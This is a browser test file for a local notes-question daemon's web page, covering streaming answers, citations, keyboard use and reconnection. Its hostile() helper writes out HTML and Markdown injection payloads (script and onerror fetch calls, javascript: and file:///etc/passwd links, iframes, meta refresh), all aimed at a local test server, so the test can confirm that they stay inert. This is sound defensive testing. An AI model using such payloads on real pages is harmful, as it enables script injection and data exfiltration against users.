// The page that the daemon serves, in a real browser, against the packaged daemon and a stand-in for Ollama.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { after, afterEach, before, beforeEach, describe, test } from "node:test";
import { ANSWER, Ollama } from "../../scripts/client-checks/ollama.mjs";
import { launch } from "./lib/chromium.mjs";
import { Daemon, until } from "./lib/daemon.mjs";
import { Elsewhere, openPage } from "./lib/page.mjs";

const TIMEOUT = { timeout: 240_000 };
const QUESTION = "How hot is the water for green tea?";

let ollama;
let daemon;
let elsewhere;
let browser;
let reader;

function notes(leak) {
  return {
    "Drinks/Tea.md": "---\ntags: [drinks]\n---\n# Tea\n\n## Water\n\nGreen tea wants water of seventy degrees.\n\nNot more.\n",
    "Drinks/Coffee.md": "# Coffee\n\nCoffee wants water of ninety degrees.\n",
    "Boat.md": "# Boat\n\nInes and I sold the boat in May.\n",
    "Trap.md": `# Trap\n\nA quarrelsome zeppelin note.\n\n${hostile(leak)}\n`,
  };
}

/** What would tell somebody elsewhere that it was read. */
function hostile(leak) {
  return [
    `![image](${leak}/image?q=secret) ![reference][there]`,
    `<img src="${leak}/raw" onerror="fetch('${leak}/error')"><iframe src="${leak}/frame"></iframe>`,
    `<link rel="prefetch" href="${leak}/prefetch"><link rel="stylesheet" href="${leak}/style.css">`,
    `<style>@import url(${leak}/import.css);</style><svg><image href="${leak}/svg"/></svg>`,
    `<script>fetch("${leak}/script")</script><video src="${leak}/video" autoplay></video><object data="${leak}/object"></object>`,
    `<meta http-equiv="refresh" content="0;url=${leak}/refresh"><base href="${leak}/"><form action="${leak}/form"><input autofocus onfocus="fetch('${leak}/focus')"></form>`,
    `[a link](${leak}/link) [script](javascript:fetch('${leak}/javascript')) [file](file:///etc/passwd) [data](data:text/html,x) [here](/app.js) <${leak}/auto> ${leak}/bare`,
    `[there]: ${leak}/reference`,
  ].join("\n\n");
}

before(async () => {
  elsewhere = await Elsewhere.listen();
  ollama = await Ollama.start();
  daemon = await Daemon.create(notes(elsewhere.url));
  await daemon.start(ollama.url);
  browser = await launch();
}, TIMEOUT);

after(async () => {
  await browser?.close();
  await daemon?.end();
  ollama?.stop();
  elsewhere?.stop();
}, TIMEOUT);

beforeEach(() => {
  ollama.answer = ANSWER;
  ollama.pauseMillis = 0;
});

afterEach(async () => {
  const { requests, faults } = reader;
  await reader.close();
  const origin = daemon.address()?.url ?? new URL(requests[0]).origin;
  assert.deepEqual(requests.filter((url) => new URL(url).origin !== origin), [], "requests to other places");
  assert.equal(elsewhere.count, 0, "connections to elsewhere");
  assert.deepEqual(faults, []);
});

/** All that the model was given last. */
function prompt() {
  return ollama.asked.at(-1).messages.map(({ content }) => content).join("\n");
}

async function opened(options) {
  reader = await openPage(browser, daemon, options);
  await reader.page.getByText("Up to date").waitFor();
  return reader;
}

describe("the page", TIMEOUT, () => {
  test("answers as the words come, with its sources", async () => {
    const { page, answer, last } = await opened();
    ollama.pauseMillis = 150;
    await reader.begin(QUESTION);
    await answer.getByText("Green tea").waitFor();
    const early = await answer.textContent();
    await reader.ended();
    assert.ok(!early.includes("degrees"), `streamed: ${early}`);
    assert.match(await answer.textContent(), /Green tea wants water of seventy degrees \[1\]\./);
    assert.match(await last.locator(".vk-trace").textContent(), /Searched “How hot is the water for green tea\?”.* · \d passages/);
    assert.match(await last.locator(".vk-source-title").first().textContent(), /^Tea/);
    assert.equal(new URL(page.url()).hash, "", "the token is out of the address");
  });

  test("takes what is typed at once", async () => {
    const { page, field } = await opened();
    await page.keyboard.type("Which tea?");
    assert.equal(await field.inputValue(), "Which tea?");
  });

  test("draws Markdown, its code without colours", async () => {
    await opened();
    ollama.answer = "# A\n\n**b** _c_ `d`\n\n3. x\n4. y\n\n|t|\n|-|\n|u|\n\n> q [1]\n\n```js\nlet a = b < c && d; // ![e](f)\n```\n";
    await reader.ask(QUESTION);
    const drawn = (selector) => reader.answer.locator(selector).innerText();
    assert.equal(await drawn("h1"), "A");
    assert.equal(await drawn("strong"), "b");
    assert.equal(await drawn("ol[start='3']"), "x\ny");
    assert.equal(await drawn("td"), "u");
    assert.equal((await drawn("pre > code:not([class])")).trim(), "let a = b < c && d; // ![e](f)");
    await reader.answer.locator("blockquote .vk-cite").waitFor();
  });

  test("stops an answer, and asks it again", async () => {
    const { page, answer } = await opened();
    ollama.stuck = true;
    await reader.begin(QUESTION);
    await answer.getByText("Green").waitFor();
    await reader.button("Stop").click();
    await ollama.clientLeaves();
    await page.getByText("Stopped.", { exact: true }).waitFor();
    await reader.button("Retry").click();
    await answer.getByText("seventy degrees").waitFor();
    assert.equal(await reader.turns.count(), 1);
  });

  test("shows a citation's passage on hover, and opens it by click", async () => {
    const { page } = await opened();
    await reader.ask(QUESTION);
    await reader.answer.locator(".vk-cite").first().hover();
    await page.getByRole("tooltip").getByText("Green tea wants water of seventy degrees.").waitFor();
    await reader.answer.locator(".vk-cite").first().click();
    const dialog = page.getByRole("dialog", { name: "Passage" });
    await dialog.getByText("Green tea wants water of seventy degrees.").waitFor();
    assert.match(await dialog.getByRole("link", { name: "Open in Obsidian" }).getAttribute("href"), /^obsidian:\/\/open\?vault=/);
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "detached" });
  });

  test("opens a passage beside the chat where there is room", async () => {
    const { page } = await opened({ viewport: { width: 1300, height: 800 } });
    await reader.ask(QUESTION);
    await reader.last.locator(".vk-source-title").first().click();
    const aside = page.getByRole("complementary", { name: "Passage" });
    await aside.getByRole("heading", { name: /^Tea/ }).waitFor();
    assert.ok((await aside.boundingBox()).x >= (await page.locator(".page-column").boundingBox()).width, "beside");
    await page.keyboard.press("Escape");
    await aside.waitFor({ state: "detached" });
  });

  test("lets an earlier question be edited and asked again, which replaces what followed", async () => {
    await opened();
    await reader.ask(QUESTION);
    await reader.ask("And coffee?");
    assert.equal(await reader.turns.count(), 2);
    await reader.turns.first().hover();
    await reader.turns.first().getByRole("button", { name: "Edit and ask again" }).click();
    const editor = reader.turns.first().getByRole("textbox", { name: "Your question" });
    await editor.fill("How hot for coffee?");
    await editor.press("Enter");
    await reader.last.locator(".vk-question-text").getByText("How hot for coffee?").waitFor();
    await reader.ended();
    assert.equal(await reader.turns.count(), 1);
    assert.equal(ollama.asked.at(-1).messages.filter(({ role }) => role === "user").length, 1, "the rest is forgotten");
  });

  test("answers again", async () => {
    await opened();
    await reader.ask(QUESTION);
    ollama.answer = "Seventy, once more [1].";
    await reader.button("Answer again").click();
    await reader.answer.getByText("Seventy, once more").waitFor();
    assert.equal(await reader.turns.count(), 1);
  });

  test("copies an answer and says so", async () => {
    const { page } = await opened();
    await reader.ask(QUESTION);
    await reader.button("Copy").click();
    await page.getByRole("status").getByText("Copied.").waitFor();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), ANSWER);
  });

  test("saves the chat as a note among the downloads", async () => {
    const { page } = await opened();
    await reader.ask(QUESTION);
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Save as note" }).click(),
    ]);
    assert.equal(download.suggestedFilename(), `${QUESTION.replace("?", "")}.md`);
    const text = await readFile(await download.path(), "utf8");
    assert.match(text, /## How hot is the water[^]*seventy degrees \[1\][^]*\[\[Drinks\/Tea#Tea#Water/);
  });

  test("keeps the chat over a reload, and in the list of earlier chats", async () => {
    const { page } = await opened();
    await reader.ask(QUESTION);
    await page.reload();
    await reader.answer.getByText("seventy degrees").waitFor();
    await reader.button("New chat").first().click();
    await reader.turns.first().waitFor({ state: "detached" });
    await reader.button("Earlier chats").click();
    await page.getByRole("searchbox", { name: "Search chats" }).fill("GREEN tea");
    await page.locator(".vk-history-open").click();
    await reader.answer.getByText("seventy degrees").waitFor();
  });

  test("tells one who has no token, or a wrong one, where to get it, and takes it without a reload", async () => {
    for (const token of [null, "wrong"]) {
      reader = await openPage(browser, daemon, { token });
      await reader.page.getByText("Open the address that it printed when it started.").waitFor();
      await reader.page.evaluate((right) => location.assign(`#token=${right}`), daemon.address().token);
      await reader.page.getByText("Up to date").waitFor();
      reader.faults = reader.faults.filter((fault) => !fault.includes("401"));
      if (token === null) {
        await reader.close();
      }
    }
  });
});

describe("the page's citations", TIMEOUT, () => {
  test("have their passage right below them, also in a table", async () => {
    const { page } = await opened();
    ollama.answer = "First of all.\n\nAnd then:\n\n| tea | water |\n|-|-|\n| green | seventy [1] |\n";
    await reader.ask(QUESTION);
    const cite = reader.answer.locator("td .vk-cite");
    await cite.hover();
    const [at, card] = [await cite.boundingBox(), await page.getByRole("tooltip").boundingBox()];
    assert.ok(Math.abs(card.y - (at.y + at.height)) < 4, `the citation ends at ${at.y + at.height}, its card begins at ${card.y}`);
  });

  test("keep the focus while the answer goes on", async () => {
    const { page } = await opened();
    ollama.answer = `Seventy [1] degrees ${"and so on ".repeat(40)}.`;
    ollama.pauseMillis = 60;
    await reader.begin(QUESTION);
    await reader.answer.locator(".vk-cite").first().focus();
    const early = (await reader.answer.textContent()).length;
    await reader.ended();
    assert.ok((await reader.answer.textContent()).length > early + 50, "it has grown since");
    assert.equal(await page.evaluate(() => document.activeElement.className), "vk-cite");
  });
});

describe("the page by keyboard alone", TIMEOUT, () => {
  test("asks before it deletes a chat, and goes on in the list", async () => {
    const { page } = await opened();
    await reader.ask(QUESTION);
    await reader.button("Earlier chats").press("Enter");
    const remove = page.getByRole("button", { name: `Delete the chat “${QUESTION}”` });
    await remove.press("Enter");
    await reader.button("Cancel").press("Enter");
    assert.equal(await page.evaluate(() => document.activeElement.type), "search");
    await remove.press("Enter");
    assert.equal(await page.evaluate(() => document.activeElement.textContent), "Delete");
    assert.equal(await page.locator(".vk-history-line").count(), 1, "nothing is deleted yet");
    await page.keyboard.press("Enter");
    await page.getByText("No chats yet.").waitFor();
    assert.equal(await page.evaluate(() => document.activeElement.type), "search");
  });

  test("goes on from the title that was edited, and from the end that was sought", async () => {
    const { page } = await opened({ viewport: { width: 900, height: 300 } });
    ollama.answer = Array.from({ length: 30 }, (_, i) => `Paragraph ${i} [1].`).join("\n\n");
    await reader.ask(QUESTION);
    for (const key of ["Enter", "Escape"]) {
      await page.locator("button.vk-title").press("Enter");
      await page.getByRole("textbox", { name: "Rename this chat" }).press(key);
      await page.locator("button.vk-title:focus").waitFor();
    }
    await page.locator(".vk-turns").evaluate((box) => { box.scrollTop = 0; });
    await reader.button("To the end").press("Enter");
    await reader.button("To the end").waitFor({ state: "detached" });
    assert.equal(await page.evaluate(() => document.activeElement.className), "vk-turns");
  });

  test("takes what is being named by @, not what was listed before", async () => {
    const { page } = await opened();
    await reader.field.focus();
    await page.keyboard.type("How hot? @cof");
    await page.getByRole("option", { name: /Coffee/ }).first().waitFor();
    await page.keyboard.press("Backspace");
    await page.keyboard.press("Backspace");
    await page.keyboard.press("Backspace");
    await page.keyboard.type("tea");
    await page.keyboard.press("Enter");
    await page.getByRole("button", { name: "Do not narrow to Tea" }).waitFor();
    await page.route("**/suggest?*", () => undefined); // days are known without an answer
    await page.keyboard.type("@last m");
    await page.keyboard.press("Enter");
    await page.getByRole("button", { name: "Do not narrow to last month" }).waitFor();
    assert.equal(await reader.turns.count(), 0, "nothing was sent");
  });

  async function tabTo(name) {
    const { page } = reader;
    for (let i = 0; i < 40; i++) {
      await page.keyboard.press("Tab");
      const focused = await page.evaluate(() => {
        const element = document.activeElement;
        return element.getAttribute("aria-label") || element.textContent;
      });
      if (focused === name) {
        return;
      }
    }
    assert.fail(`Tab never came to ${name}`);
  }

  test("asks, opens a source and comes back", async () => {
    const { page } = await opened();
    await tabTo("Your question");
    await page.keyboard.type(QUESTION);
    await page.keyboard.press("Shift+Enter");
    await page.keyboard.type("In degrees.");
    await page.keyboard.press("Enter");
    await reader.answer.getByText("seventy degrees").waitFor();
    await reader.ended();
    assert.ok(prompt().includes(`${QUESTION}\nIn degrees.`));
    await page.locator("h1").click();
    await tabTo("Source 1: Tea › Water");
    await page.getByRole("tooltip").waitFor();
    await page.keyboard.press("Enter");
    await page.getByRole("dialog", { name: "Passage" }).waitFor();
    await page.keyboard.press("Escape");
    await page.getByRole("dialog").waitFor({ state: "detached" });
    assert.equal(await page.evaluate(() => document.activeElement.textContent), "[1]", "the reader is where he was");
  });

  test("narrows the question by @, and widens it again", async () => {
    const { page } = await opened();
    await reader.field.focus();
    await page.keyboard.type("How hot? @cof");
    await page.getByRole("option", { name: /Coffee/ }).first().waitFor();
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("ArrowUp");
    await page.keyboard.press("Enter");
    await page.getByRole("button", { name: "Do not narrow to Coffee" }).waitFor();
    assert.equal(await reader.field.inputValue(), "How hot? ");
    await page.keyboard.press("Enter");
    await reader.answer.getByText("degrees").waitFor();
    await reader.ended();
    assert.match(prompt(), /ninety degrees/);
    assert.doesNotMatch(prompt(), /seventy degrees/);
    await page.getByRole("button", { name: "Do not narrow to Coffee" }).press("Enter");
    assert.equal(await page.locator(".vk-chip").count(), 0);
  });

  test("searches, chooses by arrows and opens", async () => {
    const { page } = await opened();
    await page.keyboard.press("Control+k");
    await page.getByRole("combobox", { name: "Search" }).waitFor();
    await page.keyboard.type("water degrees");
    await page.locator(".vk-result").nth(1).waitFor();
    await page.keyboard.press("ArrowDown");
    const second = await page.locator('[role="option"][aria-selected="true"] .vk-result-title').textContent();
    await page.keyboard.press("Enter");
    await page.getByRole("dialog", { name: "Passage" }).getByRole("heading", { name: second, exact: true }).waitFor();
    await page.keyboard.press("Escape");
    await page.getByRole("dialog").waitFor({ state: "detached" });
  });

  test("stops by Escape, and edits the last question by the upper arrow", async () => {
    const { page } = await opened();
    ollama.stuck = true;
    await reader.begin(QUESTION);
    await reader.answer.getByText("Green").waitFor();
    await page.keyboard.press("Escape");
    await ollama.clientLeaves();
    await page.getByText("Stopped.", { exact: true }).waitFor();
    await page.keyboard.press("ArrowUp");
    await page.locator(".vk-question-editor textarea:focus").waitFor();
    await page.keyboard.type(" Really?");
    await page.keyboard.press("Enter");
    await reader.answer.getByText("seventy degrees").waitFor();
    assert.equal(await reader.last.locator(".vk-question-text").textContent(), `${QUESTION} Really?`);
    await reader.ended();
  });

  test("reads what the index does, and orders a look for changes", async () => {
    const { page } = await opened();
    await page.locator(".page-bar").getByRole("button", { name: "Up to date" }).press("Enter");
    const dialog = page.getByRole("dialog", { name: "Index" });
    await dialog.getByText("4 notes").waitFor();
    await dialog.getByRole("button", { name: "Look for changes" }).press("Enter");
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "detached" });
  });
});

describe("the page's looks", TIMEOUT, () => {
  for (const colorScheme of ["light", "dark"]) {
    test(`have enough contrast in the ${colorScheme} theme`, async () => {
      const { page } = await opened({ colorScheme });
      await reader.ask(QUESTION);
      const texts = [".vk-question-text", ".vk-markdown p", ".vk-trace", ".vk-source-title", ".vk-cite", ".page-bar button"];
      for (const selector of texts) {
        const ratio = await page.locator(selector).first().evaluate(contrast);
        assert.ok(ratio >= 4.5, `${selector} has a contrast of ${ratio.toFixed(1)}`);
      }
    });
  }

  test("let each title and name run in its own direction", async () => {
    const { page } = await opened();
    await reader.ask(QUESTION);
    await reader.last.locator(".vk-source-title").first().click();
    await page.getByRole("dialog", { name: "Passage" }).waitFor();
    for (const selector of [".vk-title", ".vk-source-title", ".page-passage h2", ".page-passage-text"]) {
      const bidi = await page.locator(selector).first().evaluate((element) => getComputedStyle(element).unicodeBidi);
      assert.equal(bidi, "plaintext", selector);
    }
  });

  test("fit into 250 pixels, and nothing scrolls sideways", async () => {
    const { page } = await opened({ viewport: { width: 250, height: 600 } });
    ollama.answer = `A_very_long_word_${"without_a_break_".repeat(12)} [1]\n\n\`\`\`\n${"code ".repeat(60)}\n\`\`\`\n\n|a|b|c|d|e|\n|-|-|-|-|-|\n|${"cell with words|".repeat(5)}\n`;
    await reader.ask(QUESTION);
    await reader.last.locator(".vk-source-fold").first().click();
    await sidewaysNothing(page);
    await reader.button("How the context was spent").click();
    await reader.last.locator(".vk-source-title").first().click();
    await page.getByRole("dialog").waitFor();
    await sidewaysNothing(page);
    await page.keyboard.press("Escape");
    await page.keyboard.press("Control+k");
    await page.keyboard.type("water");
    await page.locator(".vk-result").first().waitFor();
    await sidewaysNothing(page);
  });
});

/** Of a text before its background, as WCAG reckons it. Runs on the page. */
function contrast(element) {
  const channels = (color) => color.match(/[\d.]+/g).map(Number);
  const luminance = (color) => {
    const [r, g, b] = channels(color).map((c) => (c / 255 <= 0.04045 ? c / 255 / 12.92 : ((c / 255 + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  let ground = element;
  while (ground.parentElement && (channels(getComputedStyle(ground).backgroundColor)[3] ?? 1) === 0) {
    ground = ground.parentElement;
  }
  const [light, dark] = [getComputedStyle(element).color, getComputedStyle(ground).backgroundColor]
    .map(luminance)
    .sort((a, b) => b - a);
  return (light + 0.05) / (dark + 0.05);
}

async function sidewaysNothing(page) {
  const wide = await page.evaluate(() =>
    [...document.querySelectorAll("body, body *")]
      .filter((element) => !element.closest("pre, table, .vk-announcer, .vk-one-line"))
      .filter((element) => element.getBoundingClientRect().right > document.documentElement.clientWidth + 1)
      .map((element) => `${element.tagName}.${element.className}`),
  );
  assert.deepEqual(wide, []);
  assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 250);
}

describe("a long answer", TIMEOUT, () => {
  test("leaves the page responsive, and its reader where he scrolled to", async (t) => {
    const { page } = await opened();
    const text = Array.from({ length: 24 }, (_, i) => `## Part ${i}\n\n${paragraph(i)} [1]\n`).join("\n");
    assert.ok(text.length > 10_000);
    ollama.answer = text;
    ollama.pauseMillis = 10;
    await page.evaluate(() => {
      window.longest = 0;
      let last = performance.now();
      setInterval(() => {
        const now = performance.now();
        window.longest = Math.max(window.longest, now - last);
        last = now;
      }, 10);
    });
    await reader.begin(QUESTION);
    await reader.answer.getByText("Part 6", { exact: true }).waitFor();
    assert.ok(await fromEnd(page) < 40, "the view follows");
    await page.locator(".vk-turns").hover();
    await page.mouse.wheel(0, -300);
    await reader.button("To the end").waitFor();
    const top = await scrollTop(page);
    await reader.answer.getByText("Part 10", { exact: true }).waitFor();
    assert.equal(await scrollTop(page), top, "the reader stays");
    await reader.field.fill("Typing goes on meanwhile");
    await reader.button("To the end").click();
    await reader.answer.getByText("Part 14", { exact: true }).waitFor();
    assert.ok(await fromEnd(page) < 40, "the view follows again");
    await reader.ended();
    assert.equal(await reader.answer.locator("h2").count(), 24);
    const longest = await page.evaluate(() => window.longest);
    t.diagnostic(`the page was busy for ${Math.round(longest)} ms at the longest`);
    assert.ok(longest < 500, `busy for ${longest} ms`);
  });

  /** Each its own: the daemon ends an answer that goes round in circles. */
  function paragraph(part) {
    const words = ["kettle", "boat", "lake", "winter", "oars", "letter", "starter", "window", "train", "lemon", "ink"];
    return Array.from({ length: 75 }, (_, i) => `${words[(i * i + part) % words.length]} ${1900 + part + i}`).join(" ");
  }

  const scrollTop = (page) => page.locator(".vk-turns").evaluate((box) => box.scrollTop);
  const fromEnd = (page) => page.locator(".vk-turns").evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight);
});

describe("hostile notes and answers", TIMEOUT, () => {
  test("are shown and fetch nothing", async () => {
    const { page } = await opened();
    ollama.answer = `${hostile(elsewhere.url)}\n\nSo it is [1] [2].`;
    await reader.ask("What does the quarrelsome zeppelin note say?");
    const shown = await reader.answer.innerText();
    for (const text of ["<img src=", "<iframe", "<script>", "!image", "<style>"]) {
      assert.ok(shown.includes(text), `${text} is shown in ${shown}`);
    }
    assert.ok(!shown.includes("\u200B"), "no guards are left");
    const inert = await page.evaluate(() => ({
      loading: document.querySelectorAll("#page :is(img, iframe, script, style, link, object, embed, video, audio, base, meta, form, image)").length,
      links: [...document.querySelectorAll(".vk-markdown a[href]")].map(({ rel, target, protocol }) => [rel, target, protocol]),
    }));
    assert.equal(inert.loading, 0);
    assert.ok(inert.links.length >= 2);
    for (const [rel, target, protocol] of inert.links) {
      assert.deepEqual([rel, target, protocol], ["noopener noreferrer", "_blank", "http:"]);
    }
    await reader.answer.locator(".vk-cite").first().hover();
    await page.getByRole("tooltip").waitFor();
    await page.mouse.move(0, 0);
    await page.keyboard.press("Control+k");
    await page.keyboard.type("quarrelsome zeppelin");
    await page.getByRole("option", { name: /Trap/ }).first().click();
    await page.getByRole("dialog", { name: "Passage" }).getByText("<iframe").first().waitFor();
    await page.waitForLoadState("networkidle", { timeout: 2_000 }).catch(() => undefined); // the status stream never is
  });
});

describe("the page and a daemon that comes and goes", TIMEOUT, () => {
  test("says that it is gone, keeps what came, and goes on by itself", async () => {
    const { page } = await opened();
    await reader.ask(QUESTION);
    ollama.stuck = true;
    await reader.begin("And coffee?");
    await reader.answer.getByText("Green").waitFor();
    const port = new URL(daemon.address().url).port;
    await daemon.stop();
    ollama.stuck = false;
    await page.getByText("daemon does not answer").first().waitFor();
    await reader.last.locator(".vk-notice.vk-warning").waitFor();
    assert.match(await reader.last.locator(".vk-markdown").first().textContent(), /Green/);
    await daemon.start(ollama.url, port);
    await page.evaluate((token) => location.assign(`#token=${token}`), daemon.address().token);
    await page.getByText("Up to date").waitFor();
    await reader.button("Retry").click();
    await reader.answer.getByText("seventy degrees").waitFor();
    reader.faults = reader.faults.filter((fault) => !/ERR_|401/.test(fault));
  });
});

describe("the page at an address that serves another vault", TIMEOUT, () => {
  test("begins a new chat, and leaves the old one to its vault", async () => {
    const { page } = await opened();
    await reader.ask(QUESTION);
    const port = new URL(daemon.address().url).port;
    await daemon.stop();
    const other = await Daemon.create({ "Other.md": "# Other\n\nAnother vault.\n" });
    try {
      await other.start(ollama.url, port);
      await page.evaluate((token) => location.assign(`#token=${token}`), other.address().token);
      await page.getByText("Up to date").waitFor();
      await reader.turns.first().waitFor({ state: "detached" });
      await reader.button("Earlier chats").click();
      await page.getByText("No chats yet.").waitFor();
      await page.reload();
      await page.getByText("Up to date").waitFor();
      assert.equal(await reader.turns.count(), 0);
    } finally {
      await other.end();
      await daemon.start(ollama.url, port);
    }
    await page.evaluate((token) => location.assign(`#token=${token}`), daemon.address().token);
    await page.getByText("Up to date").waitFor();
    await reader.button("Earlier chats").click();
    await page.locator(".vk-history-open").click();
    await reader.answer.getByText("seventy degrees").waitFor();
    reader.faults = reader.faults.filter((fault) => !/ERR_|401/.test(fault));
  });
});

describe("the page without a model", TIMEOUT, () => {
  let alone;

  before(async () => {
    alone = await Daemon.create(notes(elsewhere.url));
    await alone.start(null);
  }, TIMEOUT);

  after(() => alone.end(), TIMEOUT);

  test("quotes the notes, and says so", async () => {
    reader = await openPage(browser, alone);
    await reader.page.getByText("No model is running, so answers will be quotes from your notes.").waitFor();
    await reader.ask(QUESTION);
    await reader.answer.getByText("Quotes from your notes").waitFor();
    await reader.answer.locator("blockquote").getByText("seventy degrees").waitFor();
    await reader.answer.locator(".vk-cite").first().click();
    await reader.page.getByRole("dialog", { name: "Passage" }).waitFor();
    reader.requests = reader.requests.filter((url) => !url.startsWith(alone.address().url));
    await until("nothing else was asked", () => reader.requests.length === 0);
  });
});
